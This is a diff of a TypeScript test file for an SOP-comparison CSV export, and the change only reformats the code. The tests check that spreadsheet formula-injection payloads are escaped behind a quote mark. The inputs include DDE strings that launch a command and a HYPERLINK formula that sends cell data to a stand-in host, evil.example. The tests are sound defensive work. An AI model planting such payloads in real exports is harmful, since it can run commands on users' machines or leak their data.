@@ -8,21 +8,18 @@ function comparisonWith(cells: string[][]): SopComparison {
 }
 
 describe('comparisonCsv: cells a spreadsheet would run', () => {
-  it.each([
-    ["-2+3+cmd|' /C calc'!A0"],
-    ["=cmd|' /C calc'!A0"],
-    ['+1+1'],
-    ['@SUM(1+9)'],
-    [' =HYPERLINK("http://evil.example/?x="&A1)'],
-    ['\t-1'],
-    ['－2+3'],
-  ])('%j is written as text behind a quote mark, in the label and in the SOP columns', (payload) => {
-    const [, row] = comparisonCsv(comparisonWith([[payload, payload]])).split('\r\n');
-    const guarded = `"'${payload.replace(/"/g, '""')}"`;
-    expect(row).toBe(`roles,${guarded},${guarded},${guarded},differs`);
-  });
+  it.each([["-2+3+cmd|' /C calc'!A0"], ["=cmd|' /C calc'!A0"], ['+1+1'], ['@SUM(1+9)'], [' =HYPERLINK("http://evil.example/?x="&A1)'], ['\t-1'], ['－2+3']])(
+    '%j is written as text behind a quote mark, in the label and in the SOP columns',
+    (payload) => {
+      const [, row] = comparisonCsv(comparisonWith([[payload, payload]])).split('\r\n');
+      const guarded = `"'${payload.replace(/"/g, '""')}"`;
+      expect(row).toBe(`roles,${guarded},${guarded},${guarded},differs`);
+    },
+  );
 
   it('leaves ordinary cells as they were', () => {
-    expect(comparisonCsv(comparisonWith([['Kepala Dinas', '— ']]))).toBe('section,item,metro,buleleng,status\r\nroles,Kepala Dinas,Kepala Dinas,— ,differs\r\n');
+    expect(comparisonCsv(comparisonWith([['Kepala Dinas', '— ']]))).toBe(
+      'section,item,metro,buleleng,status\r\nroles,Kepala Dinas,Kepala Dinas,— ,differs\r\n',
+    );
   });
 });
